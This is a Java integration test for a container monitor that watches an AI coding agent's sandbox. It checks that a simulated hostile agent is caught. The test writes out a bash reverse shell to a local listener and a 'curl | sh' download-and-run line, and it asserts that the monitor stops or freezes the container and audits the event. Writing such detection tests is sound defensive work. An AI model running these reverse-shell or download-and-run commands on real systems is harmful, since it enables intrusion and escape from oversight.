package dev.coi.kernel.sessions;

import static dev.coi.kernel.sessions.SessionTestBed.assertExit;
import static dev.coi.kernel.sessions.SessionTestBed.await;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.coi.api.CommandResult;
import dev.coi.api.ExecOptions;
import dev.coi.kernel.cli.CliRun;
import dev.coi.kernel.cli.CoiTerminal;
import dev.coi.kernel.incus.IncusException;
import dev.coi.kernel.incus.Instance;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * {@code coi shell --monitor} against an agent that turns hostile, from inside a real session: the keeper, reading
 * the container's processes on the host, stops the container at a reverse shell (keeping a copy of it without
 * network, saving the session) and freezes it at a download piped into a shell, writing each event to the audit log;
 * everyday work raises nothing.
 */
class MonitorIT {

    private static final ExecOptions AS_CODE = new ExecOptions(1000, 1000, "/workspace", Map.of("HOME", "/home/code"));
    /** The keeper looks every 2 s; it may have to start first, and the copy takes a while. */
    private static final Duration RESPONSE = Duration.ofSeconds(90);
    /** A few of the keeper's looks. */
    private static final Duration QUIET = Duration.ofSeconds(8);
    /** A listener of the test's own in the container, which the reverse shell connects to. */
    private static final String LISTENER = "perl -MIO::Socket::INET -e '$s=IO::Socket::INET->new(LocalAddr=>"
            + "\"127.0.0.1\",LocalPort=>4444,Listen=>1,ReuseAddr=>1) or die; $c=$s->accept; sleep 300'";

    @TempDir
    Path root;

    private SessionTestBed bed;

    @BeforeEach
    void setUp() {
        bed = new SessionTestBed(root);
    }

    @AfterEach
    void tearDown() {
        bed.close();
    }

    @Test
    void aReverseShellStopsTheSessionKeepsACopyWithoutNetworkAndIsAudited() throws Exception {
        CoiTerminal start = bed.run(bed.shellArgs("--background", "--network=open", "--monitor"));
        assertExit(0, start);
        String container = bed.containerName(1);
        String sessionId = bed.container(1).orElseThrow(() -> new AssertionError(start.history())).config()
                .get(SessionLabels.SESSION_ID);
        Path audit = bed.home.resolve(".coi/audit/" + container + ".jsonl");
        assertTrue(Files.exists(bed.home.resolve(".coi/watch/" + container + ".json")), "the session is watched");

        CommandResult work = bed.incus.execOnce(container, List.of("bash", "-c", "git init -q w && cd w"
                + " && echo 'int main(){return 0;}' >m.c && git add m.c && git -c user.name=A"
                + " -c user.email=a@e2e.invalid commit -q -m work && git log --oneline && grep -rn main . >/dev/null"
                + " && bash -c 'for i in 1 2 3; do sleep 1; done'"), AS_CODE);
        assertEquals(0, work.exitCode(), work::toString);
        Thread.sleep(QUIET.toMillis());
        assertFalse(Files.exists(audit), () -> "everyday work raised events: " + read(audit));
        assertTrue(bed.container(1).map(Instance::isRunning).orElse(false));

        Instant attacked = Instant.now();
        try {
            bed.incus.execOnce(container, List.of("bash", "-c", "setsid -f " + LISTENER
                    + " </dev/null >/dev/null 2>&1; sleep 1; setsid -f bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444"
                    + " 0>&1' </dev/null >/dev/null 2>&1; sleep 2"), AS_CODE);
        } catch (IncusException e) {
            // the shell that starts the attack is one itself: it may be stopped with the container before it ends
        }

        await(RESPONSE, () -> bed.container(1).isEmpty(), () -> "the container still runs\n" + bed.keeperLog());
        System.out.println("[monitor] reverse shell to container gone: "
                + Duration.between(attacked, Instant.now()).toMillis() + " ms");
        List<Instance> copies = bed.incus.instances().stream()
                .filter(instance -> instance.name().startsWith(container + "-forensic-")).toList();
        assertEquals(1, copies.size(), bed::keeperLog);
        assertTrue(copies.get(0).isStopped());
        assertEquals("none", copies.get(0).expandedDevices().get("eth0").get("type"), "the copy has no network");
        assertEquals("none", copies.get(0).expandedDevices().get("workspace").get("type"), "nor the workspace");
        assertTrue(copies.get(0).expandedDevices().values().stream()
                .allMatch(device -> "none".equals(device.get("type")) || "/".equals(device.get("path"))),
                () -> "no host folder: " + copies.get(0).expandedDevices());
        // the line says what was done, so it is written once the copy is made and the session ended
        await(RESPONSE, () -> !read(audit).isEmpty(), () -> "no audit line\n" + bed.keeperLog());
        JsonNode event = new ObjectMapper().readTree(read(audit).lines().findFirst().orElseThrow());
        assertEquals("reverse-shell", event.path("detector").asText(), event::toString);
        assertEquals("critical", event.path("level").asText());
        assertEquals(sessionId, event.path("session").asText());
        assertTrue(event.path("details").path("command").asText().contains("bash"), event::toString);
        assertTrue(event.path("response").asText().contains(copies.get(0).name()), event::toString);
        assertTrue(Files.exists(bed.sessionDirectory(sessionId).resolve(".claude")), "the session was saved");

        CliRun monitor = CliRun.of(bed.home, "monitor", container, "--format", "json");
        assertEquals(0, monitor.exitCode(), monitor::toString);
        assertEquals(event, new ObjectMapper().readTree(monitor.out().lines().findFirst().orElseThrow()));
        CliRun table = CliRun.of(bed.home, "monitor");
        assertTrue(table.out().contains("CRITICAL") && table.out().contains("reverse-shell"), table::toString);
    }

    @Test
    void aDownloadPipedIntoAShellFreezesTheContainerUntilTheUserLetsItGoOn() throws Exception {
        CoiTerminal start = bed.run(bed.shellArgs("--background", "--network=open", "--monitor"));
        assertExit(0, start);
        String container = bed.containerName(1);
        Path audit = bed.home.resolve(".coi/audit/" + container + ".jsonl");

        CommandResult attack = bed.incus.execOnce(container, List.of("bash", "-c", "setsid -f sh -c"
                + " 'curl -fsS http://127.0.0.1:9/install.sh | sh; sleep 300' </dev/null >/dev/null 2>&1;"
                + " echo started"), AS_CODE);
        assertEquals(0, attack.exitCode(), attack::toString);

        await(RESPONSE, () -> bed.container(1).map(Instance::isFrozen).orElse(false),
                () -> "the container is not frozen\n" + bed.keeperLog());
        await(RESPONSE, () -> !read(audit).isEmpty(), () -> "no audit line\n" + bed.keeperLog());
        JsonNode event = new ObjectMapper().readTree(read(audit).lines().findFirst().orElseThrow());
        assertEquals("download-and-run", event.path("detector").asText(), event::toString);
        assertEquals("high", event.path("level").asText());
        assertTrue(event.path("response").asText().contains("coi container unfreeze " + container), event::toString);

        CliRun unfreeze = CliRun.of(bed.home, "container", "unfreeze", container);
        assertEquals(0, unfreeze.exitCode(), unfreeze::toString);
        assertTrue(bed.container(1).map(Instance::isRunning).orElse(false));
        Thread.sleep(QUIET.toMillis());
        assertTrue(bed.container(1).map(Instance::isRunning).orElse(false),
                () -> "the user's choice holds: " + bed.keeperLog());
        assertEquals(1, read(audit).lines().count(), "the same process is reported once");
    }

    private static String read(Path file) {
        try {
            return Files.exists(file) ? Files.readString(file) : "";
        } catch (IOException e) {
            throw new AssertionError(e);
        }
    }
}
